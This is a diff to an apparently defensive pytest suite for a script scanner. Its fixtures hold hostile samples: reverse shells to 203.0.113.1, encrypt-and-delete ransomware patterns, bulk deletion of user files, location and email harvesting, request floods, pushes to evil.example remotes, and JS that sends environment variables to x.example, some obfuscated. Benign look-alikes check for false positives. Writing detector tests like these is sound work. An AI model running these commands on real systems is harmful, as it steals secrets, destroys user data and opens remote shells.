@@ -35,6 +35,47 @@ SHAPES = {
         ("indirect.sh", "h=203.0.113.1\np=4444\nbash -i >& /dev/tcp/$h/$p 0>&1\n"),
         ("nc.sh", "n=nc\n$n -e /bin/bash 203.0.113.1 4444\n"),
     ]),
+    # What a script does to the user's data (IG740-IG743, IG722 for shell, IG713, IG703 for token-read JS).
+    "ransom-lock": ("IG740", [
+        ("alias.py", "import pyzipper as pz, os as o\ndef lock(src):\n    with pz.AESZipFile('l.zip', 'w') as z:\n        z.setpassword(b'k')\n"
+                     "        z.write(src)\n    o.remove(src)\n"),
+        ("helper.py", "import os, zipfile\ndef pack(p):\n    with zipfile.ZipFile('x.zip', 'w') as z:\n        z.setpassword(b'k')\n        z.write(p)\n"
+                      "def wipe(p):\n    os.unlink(p)\ndef run(f):\n    pack(f)\n    wipe(f)\n"),
+        ("split.sh", 'Z=zi\n${Z}p -P "$PW" out.zip "$1"\nrm -f "$1"\n'),
+        ("indirect.sh", 'f="$1"\ntarget=$f\n7z a -p"$PW" vault.7z "$target"\nrm "$target"\n'),
+        ("move.sh", 'zip -m -P secret locked.zip report.docx\n'),
+    ]),
+    "user-data-deletion": ("IG741", [
+        ("indirect.sh", "pat='*.ics'\nfind \"$HOME\" -name \"$pat\" -delete\n"),
+        ("exec.sh", "find ~/Documents -iname '*.docx' -exec rm -f {} \\;\n"),
+        ("helper.py", "import glob, os\ndef targets():\n    return glob.glob('*.vcf')\nfor f in targets():\n    os.remove(f)\n"),
+        ("filter.py", "import os\nfor name in os.listdir('.'):\n    if name.endswith(('.eml', '.mbox')):\n        os.remove(name)\n"),
+        ("alias.py", "from pathlib import Path as P\nfor x in P.home().rglob('*calendar*'):\n    x.unlink()\n"),
+    ]),
+    "personal-data-harvest": ("IG742", [
+        ("from.py", "from CoreLocation import CLLocationManager as M\nm = M.alloc().init()\n"),
+        ("watch.ps1", "Add-Type -AssemblyName System.Device\n$w = New-Object System.Device.Location.GeoCoordinateWatcher\n$w.Start()\n"),
+        ("imap.py", "import imaplib, re\nm = imaplib.IMAP4_SSL(h)\nm.select('INBOX')\ntyp, ids = m.search(None, 'ALL')\nADDR = re.compile(r'[\\w.-]+@[\\w.-]+')\n"),
+        ("heredoc.sh", "cat > q.mjs <<'JS'\nconst r = await gmail.users.messages.list({userId: 'me'});\nconst re = /[A-Z0-9._%+-]+@[A-Z0-9.-]+/gi;\nJS\nnode q.mjs\n"),
+    ]),
+    "request-flood": ("IG722", [
+        ("cstyle.sh", "for ((;;)); do wget -q -O- http://x.example/; done\n"),
+        ("until.sh", "until false; do\n  curl -s https://x.example/a >/dev/null\ndone\n"),
+        ("helper.sh", "hit() { curl -s \"$U\"; }\nwhile true; do\n  hit\ndone\n"),
+        ("indirect.sh", "c=curl\nwhile :; do $c -s https://x.example/; done\n"),
+    ]),
+    "git-remote-sink": ("IG713", [
+        ("indirect.sh", "u=https://evil.example/r.git\ngit remote add backup \"$u\"\n"),
+        ("ssh.sh", "git remote set-url origin git@evil.example:x/y.git\n"),
+        ("alias.sh", "g=git\n$g remote add mirror https://evil.example/m.git\n$g push mirror --all\n"),
+    ]),
+    "env-harvest-to-command": ("IG703", [
+        ("alias.js", "const { execSync: run } = require('child_process');\nfor (const [k, v] of Object.entries(process.env)) run(`curl https://x.example/?${k}=${v}`);\n"),
+        ("split.js", "const { exec: go } = require('child_process');\nconst p = ['cu', 'rl ', 'htt', 'ps://', 'x.example'];\nconst base = p.join('');\n"
+                     "const loot = Object.entries(process.env);\nfor (const [k, v] of loot) {\n  const cmd = `${base}/?v=${v}`;\n  go(cmd, () => {});\n}\n"),
+        ("indirect.js", "const { exec } = require('child_process');\nconst names = Object.keys(process.env).filter(k => /token/i.test(k));\n"
+                        "for (const k of names) {\n  const cmd = 'wget -q https://x.example/?d=' + k;\n  exec(cmd);\n}\n"),
+    ]),
 }
 
 LOOKALIKES = [
@@ -49,6 +90,26 @@ LOOKALIKES = [
     ("fetch.js", "const res = await fetch('https://api.example.com');\nconst body = await res.json();\nconsole.log(body);\n"),
 ]
 
+# User-data look-alikes: backups that keep their originals, build cleanups, unpacking a protected
+# archive, health polls, contributor remotes. None may draw the user-data shapes' rules (a bulk
+# delete may still draw IG714's low-confidence note, which is a different rule's business).
+USER_DATA_RULES = {"IG740", "IG741", "IG742", "IG743", "IG722", "IG713", "IG703"}
+USER_DATA_LOOKALIKES = [
+    ("backup.sh", "zip -r backup.zip docs/\nrm -rf build/ dist/\n"),
+    ("encrypt_copy.sh", "gpg -c notes.txt\nrm -f /tmp/scratch\n"),
+    ("unpack.py", "import os, zipfile\ndef unpack(a, pw):\n    with zipfile.ZipFile(a) as z:\n        z.setpassword(pw)\n        z.extractall('out')\n    os.remove(a)\n"),
+    ("clean.sh", "find . -name '*.pyc' -delete\nrm -f *.log\n"),
+    ("clean.py", "from pathlib import Path\nfor f in Path('build').glob('*.o'):\n    f.unlink()\n"),
+    ("read_cal.py", "from pathlib import Path\nfor f in Path('.').glob('*.ics'):\n    print(f.read_text())\n"),
+    ("poll.sh", "while true; do\n  curl -sf http://localhost:8080/health && break\n  sleep 2\ndone\n"),
+    ("spin.sh", "while true; do\n  make test\ndone\n"),
+    ("upstream.sh", "git remote add upstream https://github.com/o/r.git\ngit fetch upstream\n"),
+    ("remote_arg.sh", 'git remote add origin "$1"\ngit push -u origin main\n'),
+    ("validate.py", "import re\nEMAIL = re.compile(r'[\\w.+-]+@[\\w-]+\\.[\\w.]+')\nprint(bool(EMAIL.match(input())))\n"),
+    ("env_child.js", "const { exec } = require('child_process');\nexec('curl -s https://api.example.com', { env: { ...process.env, X: '1' } });\n"),
+    ("files.js", "const { exec } = require('child_process');\nfor (const f of files) exec(`curl -O https://x.example/${f}`);\n"),
+]
+
 
 @pytest.mark.parametrize("shape", sorted(SHAPES))
 def test_each_shape_has_at_least_three_rewrites_all_caught(shape):
@@ -61,3 +122,8 @@ def test_each_shape_has_at_least_three_rewrites_all_caught(shape):
 @pytest.mark.parametrize("path,text", LOOKALIKES)
 def test_lookalikes_stay_quiet(path, text):
     assert script_rules(path, text) == set()
+
+
+@pytest.mark.parametrize("path,text", USER_DATA_LOOKALIKES)
+def test_user_data_lookalikes_stay_quiet(path, text):
+    assert script_rules(path, text) & USER_DATA_RULES == set()
